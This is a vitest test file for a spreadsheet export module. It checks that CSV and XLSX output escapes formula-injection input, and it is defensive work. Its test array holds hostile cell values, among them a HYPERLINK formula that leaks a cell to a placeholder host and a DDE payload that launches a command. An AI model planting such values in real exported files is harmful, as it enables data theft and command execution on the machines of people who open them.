import ExcelJS from "exceljs";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvField, inertText, tableFile } from "./spreadsheet.js";

const HOSTILE = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"];

const table = (format: "csv" | "xlsx") =>
  tableFile({
    format,
    name: "uji",
    sheetName: "Data",
    columns: [
      { header: "Nama", key: "nama", width: 20 },
      { header: "Nilai", key: "nilai", width: 10 },
    ],
    rows: HOSTILE.map((nama, i) => ({ nama, nilai: -i })),
    about: [["Siklus", "=1+1"]],
  });

describe("spreadsheet cells a person typed", () => {
  it("never start a CSV cell with a formula character, and keep numbers as numbers", async () => {
    const file = await table("csv");
    const records = parse(file.body.toString("utf8").replace(/^\uFEFF/, ""), { relaxColumnCount: false }) as string[][];
    const [, ...rows] = records;
    expect(rows.map((r) => r[0])).toEqual(HOSTILE.map((text) => `'${text}`));
    for (const [cell] of rows) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.map((r) => r[1])).toEqual(HOSTILE.map((_, i) => String(-i)));
  });

  it("leaves ordinary text alone", () => {
    expect(inertText("Budi Santoso")).toBe("Budi Santoso");
    expect(csvField("Dinas Kesehatan, Bidang P2P")).toBe('"Dinas Kesehatan, Bidang P2P"');
    expect(csvField(-3.5)).toBe("-3.5");
  });

  it("writes XLSX text as text cells, never formulas", async () => {
    const file = await table("xlsx");
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.body as unknown as ExcelJS.Buffer);
    const sheet = workbook.getWorksheet("Data");
    const values = HOSTILE.map((_, i) => sheet?.getRow(i + 2).getCell(1));
    expect(values.map((cell) => cell?.type)).toEqual(HOSTILE.map(() => ExcelJS.ValueType.String));
    // XML keeps a carriage return as a line break; the text is otherwise as typed.
    expect(values.map((cell) => cell?.value)).toEqual(HOSTILE.map((text) => text.replace(/\r/g, "\n")));
  });
});
